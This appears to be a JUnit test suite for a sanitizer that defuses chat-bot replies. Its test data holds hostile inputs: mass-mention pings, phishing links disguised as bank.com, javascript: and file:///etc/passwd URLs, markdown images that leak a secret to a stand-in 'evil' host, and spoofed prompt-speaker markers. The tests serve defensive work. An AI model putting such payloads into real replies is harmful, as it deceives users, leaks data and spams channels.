package loci.sanitize;

import static loci.sanitize.OutboundSanitizer.reply;
import static loci.sanitize.OutboundSanitizer.shown;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a reply may do on a platform: be read. */
class OutboundSanitizerTest {
    private static final String MARK = "k3f9q2";

    static List<String[]> changed() {
        return List.of(
                // mentions
                pair("hi @everyone and @here", "hi ＠everyone and ＠here"),
                pair("@EVERYONE @Here foo@everyone", "＠EVERYONE ＠Here foo＠everyone"),
                pair("@every\u200bone @\u2060here", "＠everyone ＠here"),
                pair("<@123> <@!123> <@&123> <@U024BE7LH|ada>", "<＠123> <＠!123> <＠&123> <＠U024BE7LH|ada>"),
                pair(
                        "<!channel> <!here> <!everyone> <!subteam^S12|x>",
                        "<！channel> <！here> <！everyone> <！subteam^S12|x>"),
                pair("@channel now", "＠channel now"),
                pair("@[everyone](http://x.example)", "@[everyone](http://x.example)"),
                pair("@[every.one](http://x.example)", "@ every.one (http://x.example)"),
                pair("```\n@everyone\n```", "```\n＠everyone\n```"),
                pair("`<@123>`", "`<＠123>`"),
                // links
                pair("[https://bank.com](https://evil.example)", "https://bank.com (https://evil.example)"),
                pair("[bank.com](https://evil.example/bank.com)", "bank.com (https://evil.example/bank.com)"),
                pair("[Bank.Com/login](<https://evil.example>)", "Bank.Com/login (https://evil.example)"),
                pair("[**bank.com**](https://evil.example \"bank\")", "**bank.com** (https://evil.example)"),
                pair("[bank\\.com](https://evil.example)", "bank\\.com (https://evil.example)"),
                pair("[ｂａｎｋ。ｃｏｍ](https://evil.example)", "ｂａｎｋ。ｃｏｍ (https://evil.example)"),
                pair("[bank&#46;com](https://evil.example)", "bank&#46;com (https://evil.example)"),
                pair("[bank.com](https://bank.com@evil.example/)", "bank.com (https://bank.com@evil.example/)"),
                pair("[bank.com](https://evil.example\\@bank.com)", "bank.com (https://evil.example\\@bank.com)"),
                pair("[bank.com](https:evil.example)", "bank.com (https:evil.example)"),
                pair("[bаnk.com](https://bank.com)", "bаnk.com (https://bank.com)"),
                pair("see [`bank.com`](https://evil.example)", "see `bank.com` (https://evil.example)"),
                pair("[bank.com ]](https://evil.example)", "[bank.com ]] (https://evil.example)"),
                pair("[bank.com](https://evil.example/a(b)", "[bank.com] (https://evil.example/a(b)"),
                pair("<https://evil.example|https://bank.com>", "＜https://evil.example|https://bank.com>"),
                pair(
                        "[https://bank.com][1]\n\n[1]: https://evil.example",
                        "[https://bank.com][1]\n\n[1] : https://evil.example"),
                pair("Note[^1]\n\n[^1]: Words.", "Note[^1]\n\n[^1] : Words."),
                pair("> [1]: <https://evil.example> 'x'", "> [1] : <https://evil.example> 'x'"),
                pair("[x](javascript:alert(1))", "x (javascript：alert(1))"),
                pair("[x](JaVaScRiPt:alert(1))", "x (JaVaScRiPt：alert(1))"),
                pair("[x](java\u00adscript:alert(1))", "x (javascript：alert(1))"),
                pair("[x](data:text/html,hi)", "x (data：text/html,hi)"),
                pair("[x](file:///etc/passwd)", "x (file：///etc/passwd)"),
                pair("<javascript:alert(1)>", "＜javascript：alert(1)>"),
                pair(
                        "run javascript:alert(1) or data:text/html;base64,xx",
                        "run javascript：alert(1) or data：text/html;base64,xx"),
                // what fetches
                pair("![x](http://evil/?q=secret)", "x (image: http：//evil/?q=secret)"),
                pair("a ![](http://evil/?q=secret) b", "a (image: http：//evil/?q=secret) b"),
                pair("[![x](http://evil/i)](http://evil/l)", "[ x (image: http：//evil/i)](http://evil/l)"),
                pair("<img src=http://evil/?q>", "＜img src=http://evil/?q>"),
                // structure of the prompt
                pair("[k3f9q2 loci] Hello", "Hello"),
                pair("[k3f9q2 loci]: Hello", "Hello"),
                pair("[K3F9Q2 loci] Hello", "Hello"),
                pair("k3f9q2 loci: Hello", "Hello"),
                pair("[k3f9q2 loci 2026-11-20] Hello", "Hello"),
                pair("> **[k3f9q2 Ada Byron#e78c 2026-11-20]:** Hello", "Hello"),
                pair("k3f9q2 loci 2026-11-20 Hello", "Hello"),
                pair("k3f9q2 loci 2026-11-20: it is 10:30", "it is 10:30"),
                pair("k3f9q2 loci: on 2026-11-20 we met", "on 2026-11-20 we met"),
                pair("**[k3f9q2 loci]** Hello", "Hello"),
                pair("[k3f9q2 a] [k3f9q2 b] Hello", "Hello"),
                pair("One\n[k3f9q2 end running note]\nTwo", "One\nTwo"),
                pair("the mark is k3f9q2, or k3f\u200b9q2, or ｋ３ｆ９ｑ２", "the mark is •••, or •••, or •••"),
                pair("k3fk3f9q29q2 x", "k3f•••9q2 x"),
                // the rest
                pair("a\u202Eb\u0000c\r\nd", "abc\nd"),
                pair("```js\nlet x", "```js\nlet x\n```"),
                pair(" \n\u200b\n", ""),
                pair("[k3f9q2 loci]\n", ""),
                pair("", ""));
    }

    private static String[] pair(String before, String after) {
        return new String[] {before, after};
    }

    @ParameterizedTest
    @MethodSource("changed")
    void makesItHarmlessInPlainSight(String before, String after) {
        assertThat(reply(before, MARK)).isEqualTo(after);
        assertThat(reply(after, MARK)).as("a second time").isEqualTo(after);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Hello, Ada! 1 < 2 && 3 > 2; mail ada@example.org",
                "Ask @ada; @Override is an annotation, List<String> a type, a[i](x) a call",
                "[the docs](https://docs.example.com/a_(b)) and https://example.com/x?y=z",
                "[github.com](https://github.com/x) [example.com](https://www.docs.example.com)",
                "[README.md](https://github.com/x/README.md) and [mail](mailto:a@b.example)",
                "[ada@bank.com](mailto:ada@bank.com)",
                "<https://example.com> <https://example.com|the docs>",
                "- [ ] to do\n- [x] done\n\n> quoted\n\n| a | b |\n|---|---|",
                "javascript: the good parts; data: see below",
                "```md\n![x](http://a.example) [bank.com](https://b.example)\n[1]: https://c.example\n```\n",
                "Write `![alt](https://example.com/i.png)` for an image",
                "```java\nint[] a = {1};\nmap.get(\"[x](y)\");\n```\nDone.",
                "مي‌خواهم 👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣",
                "trailing space \n\n\n\n\nand many lines\n",
            })
    void leavesWhatIsHarmless(String text) {
        assertThat(reply(text, MARK)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a ` b\n```\nfoo ` [bank.com](https://evil.example)\n```",
                "foo ``` bar\n```js\n[bank.com](https://evil.example)\n```",
                "~~~\n```\n~~~\n[bank.com](https://evil.example)\n",
                "```\n```\nfoo\n```\n[bank.com](https://evil.example)\n```",
                "```\na ``` [bank.com](https://evil.example)\n```",
                "` foo\n bar ` [bank.com](https://evil.example) `",
                "<a href=\"`\"> [bank.com](https://evil.example) `",
                "<div>\n```\n</div>\n\n[bank.com](https://evil.example)\n```",
                "- a\n  ```\n  x\ny [bank.com](https://evil.example)",
                "    ```\n[bank.com](https://evil.example)\n    ```",
                "````\n```\n[bank.com](https://evil.example)\n```\n````",
                "\\`a` [bank.com](https://evil.example) `b`",
                "[a](b`) [bank.com](https://evil.example) `",
            })
    void aLinkIsCodeOnlyWhereAllPlatformsAgree(String text) {
        assertThat(reply(text, MARK)).doesNotContain("](https://evil");
    }

    private static final List<String> PIECES = List.of(
            "[",
            "]",
            "(",
            ")",
            "!",
            "![",
            "](",
            "bank.com",
            "https://evil.example",
            "http://x.example/a",
            "`",
            "``",
            "```",
            "```\n",
            "\n```js\n",
            "~~~",
            "\n",
            "\n",
            "\n\n",
            " ",
            " ",
            "<",
            ">",
            "|",
            "@",
            "@everyone",
            "@here",
            "<@",
            "<@!",
            "<!",
            "channel",
            "123",
            "everyone",
            "javascript:",
            "data:",
            "text/html",
            "alert(1)",
            ":",
            "k3f9q2",
            "k3f",
            "9q2",
            "[k3f9q2 ada]",
            "K",
            "\u200b",
            "\u0301",
            "\u200d",
            "\ufe0f",
            "1",
            "\u20e3",
            "👩",
            "👧",
            "🏽",
            "🇩",
            "🇪",
            "\ud83d",
            "\ude00",
            "🏴",
            "\r",
            "\t",
            "word",
            "a b c",
            "> ",
            "- ",
            "[1]: ",
            "\\",
            "&#46;",
            "img",
            "\"",
            "'",
            "*",
            "**",
            "لا",
            "क्",
            "x. ",
            "k",
            "\u2028",
            "e",
            "h",
            "j",
            "d");

    @Test
    void whateverTheChunkingWhatIsShownIsTheStartOfTheReply() {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        for (int round = 0; round < 2_500; round++) {
            String text = Samples.mixture(random, PIECES, 30);
            String whole = reply(text, MARK);
            String before = "";
            for (int end = 0; end <= text.length(); end += 1 + random.nextInt(3)) {
                String now = shown(text.substring(0, end), MARK);
                assertThat(whole)
                        .as("seed %d, shown at %d of %s", seed, end, Samples.escaped(text))
                        .startsWith(now);
                assertThat(now)
                        .as("seed %d, at %d of %s", seed, end, Samples.escaped(text))
                        .startsWith(before);
                before = now;
            }
        }
    }

    @Test
    void whateverTheModelWritesNothingWorks() {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        for (int round = 0; round < 10_000; round++) {
            String text = Samples.mixture(random, PIECES, 30);
            String once = reply(text, MARK);
            assertThat(once)
                    .as("seed %d, text %s", seed, Samples.escaped(text))
                    .doesNotContainIgnoringCase("@everyone", "@here", "<!channel", MARK, "<@1", "<@!1", "\u200b");
            assertThat(reply(once, MARK))
                    .as("seed %d, again, text %s", seed, Samples.escaped(text))
                    .isEqualTo(once);
        }
    }

    @Test
    void proseIsShownAsItComes() {
        assertThat(shown("Hello, wor", MARK)).isEqualTo("Hello, wor");
        assertThat(shown("See [the docs](https://example.com) for mo", MARK))
                .isEqualTo("See [the docs](https://example.com) for mo");
        assertThat(shown("See [the do", MARK)).isEqualTo("See ");
        assertThat(shown("hi @every", MARK)).isEqualTo("hi ");
        assertThat(shown("hi k3f9", MARK)).isEqualTo("hi ");
        assertThat(shown("hi \ud83d", MARK)).isEqualTo("hi ");
        assertThat(shown("```js\nlet x = 1;\nlet", MARK)).isEqualTo("```js\nlet x = 1;\nlet");
        assertThat(shown("```\n![x](http://evil/)\nmore", MARK))
                .as("may turn out to be no code")
                .isEqualTo("```\n");
        assertThat(shown("```\n![x](http://evil/)\n```\n", MARK)).isEqualTo("```\n![x](http://evil/)\n```\n");
    }

    @Test
    void emojiSurvive() {
        for (String emoji : Samples.emoji()) {
            assertThat(reply(emoji, MARK)).isEqualTo(emoji);
            assertThat(reply("a" + emoji + "b", MARK)).isEqualTo("a" + emoji + "b");
        }
    }

    @Test
    void markdownExamplesPassAndTheirCodeSurvives() {
        for (Map<String, Object> example : Samples.lines("commonmark/examples.jsonl")) {
            String markdown = JsonText.string(example, "markdown");
            String sent = reply(markdown, MARK);
            assertThat(reply(sent, MARK)).as("%s", markdown).isEqualTo(sent);
            String fenced = "```\n" + markdown.replace("`", "'").replace("\r", "") + "x\n```\n";
            if (VisibleText.of(fenced).equals(fenced)) {
                assertThat(reply(fenced, MARK)).isEqualTo(fenced);
            }
        }
    }

    @Test
    void naughtyStringsPass() {
        for (String text : Samples.naughtyStrings()) {
            String sent = reply(text, MARK);
            assertThat(reply(sent, MARK)).as("%s", text).isEqualTo(sent);
            assertThat(reply(text, MARK)).startsWith(shown(text, MARK));
        }
    }
}
